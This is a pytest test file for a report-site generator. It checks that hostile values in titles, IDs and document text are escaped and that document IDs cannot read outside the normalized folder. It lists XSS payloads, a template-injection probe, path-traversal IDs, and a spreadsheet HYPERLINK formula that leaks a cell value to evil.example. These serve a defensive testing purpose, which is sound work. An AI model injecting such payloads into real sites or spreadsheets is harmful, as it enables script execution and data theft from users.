"""Hostile values in the report site (issue 25, item 1): every value placed in HTML is escaped.

Function level (fast): a doc_id or item id carrying HTML, quotes and a script becomes text and an
attribute value, never markup; its page name is safe and bounded; a doc_id never reads outside
normalized/; Markdown with raw HTML is shown as text.
Browser (slow): a corpus whose titles, regions, issuers, priorities, authorities and texts carry
HTML, JavaScript URLs, template syntax and spreadsheet formulas is rendered by `write_report`, and
headless Chromium loads every page: no script runs (a `document.body.dataset.pwned` probe), no
element carries an event handler, no link has a javascript: URL, the payloads are visible as text.
"""

from __future__ import annotations

import re
import shutil

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from tifa.outputs.report import site

PAYLOADS = [
    "<img src=x onerror=\"document.body.dataset.pwned='img'\">",
    "'><img src=x onerror=document.body.dataset.pwned=5>",
    "\"><script>document.body.dataset.pwned='script'</script>",
    "javascript:document.body.dataset.pwned='url'",
    "<a href=\"javascript:document.body.dataset.pwned='link'\">点击</a>",
    "{{ 7*7 }} {% raw %}",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")",
    "<svg onload=document.body.dataset.pwned='svg'></svg> & < > ' \"",
]
EVIL_ID = "x'><img src=x onerror=document.body.dataset.pwned=5>"


def _frame(title: str) -> dict:
    return {"pages": [site.Page("index.html", title)], "current": "index.html", "section": None, "prev": None,
            "next": site.Page(site._doc_file(EVIL_ID), EVIL_ID), "title": title}


def _no_markup_from_data(page: str) -> BeautifulSoup:
    soup = BeautifulSoup(page, "html.parser")
    assert not soup.find_all(["img", "svg", "iframe", "object"]), "a payload became an element"
    assert len(soup.find_all("script")) <= 1 and "pwned" not in "".join(s.get_text() for s in soup.find_all("script"))
    handlers = [(tag.name, a) for tag in soup.find_all(True) for a in tag.attrs if a.lower().startswith("on")]
    assert not handlers, handlers
    assert not [a["href"] for a in soup.find_all("a", href=True) if a["href"].strip().lower().startswith("javascript:")]
    return soup


@pytest.mark.parametrize("doc_id", [EVIL_ID, "../../../secret", "a/b", "x" * 251, "民政局 2023", ".hidden"])
def test_document_page_names_are_safe_and_bounded(doc_id):
    name = site._doc_file(doc_id)
    assert re.fullmatch(r"doc-[A-Za-z0-9_-]{1,100}\.html", name), name
    assert "/" not in name and ".." not in name.removesuffix(".html")
    assert site._doc_file(doc_id) != site._doc_file(doc_id + "_")  # distinct ids never share a page


def test_ids_that_differ_only_in_unsafe_characters_get_different_pages():
    assert site._doc_file("a b") != site._doc_file("a_b") != site._doc_file("a/b")
    assert site._doc_file("gansu-2022-speech") == "doc-gansu-2022-speech.html"  # a safe id keeps its name


def test_a_hostile_id_and_text_stay_text_in_the_document_page():
    text = "第一段" + PAYLOADS[0] + "\n第二段，坚持稳中求进。\n" + "\n".join(PAYLOADS)
    start = text.index("坚持")
    t = {"priorities": pd.DataFrame({"doc_id": [EVIL_ID], "item_id": [EVIL_ID + "-p01"], "title": [PAYLOADS[2]],
                                     "domain": [PAYLOADS[1]], "start": [0], "end": [3]}),
         "frame_hits": pd.DataFrame({"doc_id": [EVIL_ID], "formulation_id": ["steady_progress"], "match": ["exact"],
                                     "start": [start], "end": [start + 4]}),
         "outline": pd.DataFrame({"doc_id": [EVIL_ID], "node_id": [EVIL_ID + "-n1"], "marker": ["一、"], "heading": [PAYLOADS[4]],
                                  "depth": [1], "start": [0]})}
    doc = pd.Series({"doc_id": EVIL_ID, "title": PAYLOADS[0], "level": "district", "region": PAYLOADS[3], "issuer": PAYLOADS[7],
                     "year": 2023, "n_chars": len(text)})
    values = site._document(doc, t, text, {"steady_progress": PAYLOADS[5]})
    page = site.render("document.html", **_frame(EVIL_ID), **values)
    soup = _no_markup_from_data(page)
    assert soup.h1.get_text() == EVIL_ID
    # the priority link and its anchor carry the id verbatim, as an attribute value
    link = soup.find("a", href="#p-" + EVIL_ID + "-p01")
    assert link is not None and link.get_text() == PAYLOADS[2]
    assert soup.find(id="p-" + EVIL_ID + "-p01") is not None
    assert soup.find("a", href="concordance.html?doc=" + re.sub(r"[^A-Za-z0-9_.\-~/]", lambda m: "".join(
        f"%{b:02X}" for b in m.group(0).encode()), EVIL_ID)) is not None
    visible = soup.get_text()
    for payload in PAYLOADS:
        assert payload in visible, payload
    assert "49" not in visible  # template syntax in the data is not evaluated
    # the hit's title (the gloss, here a payload) is an attribute value, verbatim
    assert PAYLOADS[5] + " [exact]" in soup.select_one(".doctext span.hit")["title"]


def test_a_doc_id_never_reads_outside_normalized(tmp_path):
    processed = tmp_path / "processed"
    (processed / "normalized").mkdir(parents=True)
    (processed / "normalized" / "ok.txt").write_text("正文", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("do not show", encoding="utf-8")
    assert site._texts(processed, ["ok", "../secret", "../../" + str(tmp_path / "secret")]) == {"ok": "正文"}


def test_markdown_pages_show_raw_html_as_text():
    page = site.render("markdown.html", **_frame("m"), **site._markdown("# Title <img src=x onerror=alert(1)>\n\n<script>x()</script>"))
    soup = _no_markup_from_data(page)
    assert "<script>x()</script>" in soup.get_text()


# ----------------------------------------------------------------------------- in a browser
@pytest.fixture(scope="module")
def hostile_site(built, tmp_path_factory):
    """Two seed documents whose data carry the payloads, rendered by write_report (no figures, no notebooks)."""
    from tifa.outputs.report import write_report

    root = tmp_path_factory.mktemp("hostile")
    processed = root / "processed"
    (processed / "normalized").mkdir(parents=True)
    keep = ["wuchang-2023-plan", "city-2023-vicemayor-speech"]
    for name, df in built.items():
        if name.startswith("_") or not isinstance(df, pd.DataFrame):
            continue
        if "doc_id" in df.columns:
            df = df[df["doc_id"].isin(keep)]
        df = df.copy()
        if name == "documents":
            for k, col in enumerate(("title", "region", "issuer")):
                df[col] = [PAYLOADS[(k + i) % len(PAYLOADS)] for i in range(len(df))]
        if name == "priorities":
            df["title"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(df))]
        if name == "attributions" and len(df):
            df["authority"] = PAYLOADS[2]
        df.to_csv(processed / f"{name}.csv", index=False)
    for d in keep:
        text = (built["_out"] / "normalized" / f"{d}.txt").read_text(encoding="utf-8")
        (processed / "normalized" / f"{d}.txt").write_text(text + "\n" + "\n".join(PAYLOADS) + "\n", encoding="utf-8")
    out = root / "reports"
    write_report(processed, out)
    return out


@pytest.mark.slow
@pytest.mark.browser
def test_no_script_runs_in_a_hostile_corpus(hostile_site, tmp_path):
    from test_browser import CHROMIUM, Browser

    if CHROMIUM is None:
        pytest.skip("no Chromium installed (apt-get install chromium)")
    browser = Browser(tmp_path / "profile")
    try:
        pages = sorted(hostile_site.glob("*.html"))
        assert len([p for p in pages if p.name.startswith("doc-")]) == 2
        seen = ""
        for page in pages:
            browser.load(page.as_uri(), 1400)
            state = browser.js("""({pwned: document.body.dataset.pwned || null,
                scripts: document.scripts.length,
                handlers: [...document.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
                js_links: [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href')).filter(h => /^\\s*javascript:/i.test(h)),
                text: document.body.innerText})""")
            assert state["pwned"] is None, f"{page.name}: a script ran ({state['pwned']})"
            assert state["scripts"] <= 1 and not state["handlers"] and not state["js_links"], (page.name, state)
            seen += state["text"]
        for payload in PAYLOADS:  # shown as text somewhere (titles, priorities, the document text)
            assert payload.split("\n")[0] in seen, payload
    finally:
        browser.close()
    shutil.rmtree(tmp_path / "profile", ignore_errors=True)
